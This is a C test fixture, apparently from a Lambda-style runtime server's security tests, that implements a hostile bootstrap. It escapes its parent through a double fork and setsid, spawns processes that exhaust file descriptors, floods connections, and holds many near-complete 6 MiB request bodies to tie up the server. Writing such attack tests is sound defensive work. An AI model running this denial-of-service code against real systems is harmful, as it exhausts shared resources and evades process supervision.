/*
 * atk_m_runtime - a hostile exec bootstrap (a program, built with cc -o; see
 * test_attacks_more.py) that attacks spated through its own Runtime API
 * endpoint, then asks for work and answers each event with what it did.
 *
 * $ATK_MODE:
 *   scan    makes each connection expensive to check: $ATK_PROCS processes,
 *           each holding as many descriptors as its limit allows, and a
 *           helper out of the bootstrap's session and parentage that
 *           connects over and over, 8 connections at a time
 *   bodies  opens $ATK_CONNS connections, each sending a 6 MiB response
 *           body but its last byte, and holds them: answers "held N", the
 *           connections whose body spated kept reading
 * $OUT: a directory; "ready" is created there once the attack runs.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static char host[64];
static int port;

static int dial(int nonblock)
{
    int fd = socket(AF_INET, SOCK_STREAM | (nonblock ? SOCK_NONBLOCK : 0), 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

static int send_all(int fd, const void *p, size_t n)
{
    while (n) {
        ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
        if (w <= 0) return -1;
        p = (const char *)p + w;
        n -= (size_t)w;
    }
    return 0;
}

static void mark_ready(void)
{
    char path[512];
    snprintf(path, sizeof path, "%s/ready", getenv("OUT"));
    close(open(path, O_WRONLY | O_CREAT, 0666));
}

/* Fills the descriptor table up to its limit with copies of stdin. */
static void fill_descriptors(void)
{
    struct rlimit r;
    getrlimit(RLIMIT_NOFILE, &r);
    int top = r.rlim_cur > 30000 ? 30000 : (int)r.rlim_cur;
    int fd = open("/dev/null", O_RDONLY);
    for (int i = 16; i < top; i++) dup2(fd, i);
}

static void scan(void)
{
    if (fork() != 0) return;
    if (fork() != 0) _exit(0); /* the helper: parented by init, not by the bootstrap */
    setsid();
    int procs = getenv("ATK_PROCS") ? atoi(getenv("ATK_PROCS")) : 100;
    for (int i = 0; i < procs; i++)
        if (fork() == 0) {
            fill_descriptors();
            pause();
            _exit(0);
        }
    fill_descriptors();
    sleep(1);
    mark_ready();
    for (;;) {
        int fds[8];
        for (int i = 0; i < 8; i++) fds[i] = dial(1);
        for (int i = 0; i < 8; i++) {
            if (fds[i] < 0) continue;
            struct pollfd p = {fds[i], POLLIN, 0};
            poll(&p, 1, 60000); /* closed by spated, once it has looked */
            close(fds[i]);
        }
    }
}

static int held;

static void bodies(void)
{
    int conns = getenv("ATK_CONNS") ? atoi(getenv("ATK_CONNS")) : 12;
    size_t size = 6u << 20;
    char *body = malloc(size);
    memset(body, 'x', size);
    for (int i = 0; i < conns; i++) {
        int fd = dial(0);
        if (fd < 0) continue;
        char head[256];
        int n = snprintf(head, sizeof head,
                         "POST /2018-06-01/runtime/invocation/x%d/response HTTP/1.1\r\n"
                         "Host: x\r\nContent-Length: %zu\r\n\r\n",
                         i, size);
        if (send_all(fd, head, (size_t)n) != 0 || send_all(fd, body, size - 1) != 0) {
            close(fd);
            continue;
        }
        /* Still reading (no answer, not closed) a moment later: spated holds it. */
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 300) == 0)
            held++;
        else
            close(fd);
    }
    free(body);
    mark_ready();
}

/* One request on a fresh connection; the answer's body into out. */
static int request(const char *head, const char *body, size_t blen, char *out, size_t cap, char *id,
                   size_t idcap)
{
    int fd = dial(0);
    if (fd < 0 || send_all(fd, head, strlen(head)) != 0 || send_all(fd, body, blen) != 0) return -1;
    size_t len = 0;
    ssize_t n;
    while (len < cap - 1 && (n = read(fd, out + len, cap - 1 - len)) > 0) {
        len += (size_t)n;
        out[len] = '\0';
        char *end = strstr(out, "\r\n\r\n");
        char *cl = strcasestr(out, "content-length:");
        if (end && cl && len >= (size_t)(end + 4 - out) + (size_t)atol(cl + 15)) break;
    }
    close(fd);
    out[len] = '\0';
    char *rid = strcasestr(out, "lambda-runtime-aws-request-id:");
    if (rid && id) {
        rid += 30;
        while (*rid == ' ') rid++;
        size_t k = strcspn(rid, "\r\n");
        snprintf(id, idcap, "%.*s", (int)k, rid);
    }
    return 0;
}

int main(void)
{
    signal(SIGPIPE, SIG_IGN);
    const char *api = getenv("AWS_LAMBDA_RUNTIME_API");
    const char *colon = api ? strrchr(api, ':') : NULL;
    if (!colon) return 1;
    snprintf(host, sizeof host, "%.*s", (int)(colon - api), api);
    port = atoi(colon + 1);
    const char *mode = getenv("ATK_MODE") ? getenv("ATK_MODE") : "";
    if (strcmp(mode, "scan") == 0) scan();
    if (strcmp(mode, "bodies") == 0) bodies();
    static char in[1 << 16];
    for (;;) {
        char id[128] = "";
        if (request("GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n"
                    "Connection: close\r\n\r\n",
                    "", 0, in, sizeof in, id, sizeof id) != 0)
            return 1;
        char answer[64], head[256];
        int n = snprintf(answer, sizeof answer, "held %d", held);
        snprintf(head, sizeof head,
                 "POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\r\nHost: x\r\n"
                 "Content-Length: %d\r\nConnection: close\r\n\r\n",
                 id, n);
        request(head, answer, (size_t)n, in, sizeof in, NULL, 0);
    }
}
